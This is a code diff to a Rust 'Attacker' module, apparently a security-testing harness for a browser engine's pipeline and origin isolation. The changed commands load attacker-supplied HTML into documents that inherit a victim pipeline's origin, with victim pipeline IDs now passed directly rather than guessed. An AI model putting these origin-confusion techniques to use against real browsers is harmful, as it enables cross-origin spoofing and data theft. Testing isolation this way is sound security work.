@@ -119,20 +119,16 @@ impl Attacker<'_> {
                 js_eval_result: Some(html.to_string()),
                 ..load_data(url, initiator)
             }),
-            // Show content of ours in a document that inherits the origin of the victim's.
-            ["srcdoc", initiator, html] => self.for_each_guess(|victim_pipeline| {
-                self.load(LoadData {
-                    srcdoc: html.to_string(),
-                    creator_pipeline_id: Some(victim_pipeline),
-                    ..load_data("about:srcdoc", initiator)
-                });
+            // Show content of ours in a document that inherits the origin of the victim's, which is a guess.
+            ["srcdoc", victim, initiator, html] => self.load(LoadData {
+                srcdoc: html.to_string(),
+                creator_pipeline_id: Some(pipeline(victim.parse().expect("a number"))),
+                ..load_data("about:srcdoc", initiator)
             }),
-            ["creator", initiator, html] => self.for_each_guess(|victim_pipeline| {
-                self.load(LoadData {
-                    js_eval_result: Some(html.to_string()),
-                    creator_pipeline_id: Some(victim_pipeline),
-                    ..load_data("about:blank", initiator)
-                });
+            ["creator", victim, initiator, html] => self.load(LoadData {
+                js_eval_result: Some(html.to_string()),
+                creator_pipeline_id: Some(pipeline(victim.parse().expect("a number"))),
+                ..load_data("about:blank", initiator)
             }),
             // Rename our document to the victim's URL, and use the name.
             ["final-url", url] => {
@@ -180,11 +176,7 @@ impl Attacker<'_> {
     }
 
     fn for_each_guess(&self, attack: impl Fn(PipelineId)) {
-        for index in GUESSES {
-            let guess = PipelineId {
-                namespace_id: CONSTELLATION_PIPELINE_NAMESPACE_ID,
-                index: Index::<PipelineIndex>::new(index).expect("not zero"),
-            };
+        for guess in GUESSES.map(pipeline) {
             if guess != self.pipeline_id {
                 attack(guess);
             }
@@ -228,6 +220,13 @@ fn count_readers(port: &TokenPort) -> String {
             })),
         ) => format!("{} readers", readers.len()),
         (_, answer) => format!("no answer: {answer:?}"),
+    }
+}
+
+fn pipeline(index: u32) -> PipelineId {
+    PipelineId {
+        namespace_id: CONSTELLATION_PIPELINE_NAMESPACE_ID,
+        index: Index::<PipelineIndex>::new(index).expect("not zero"),
     }
 }
 
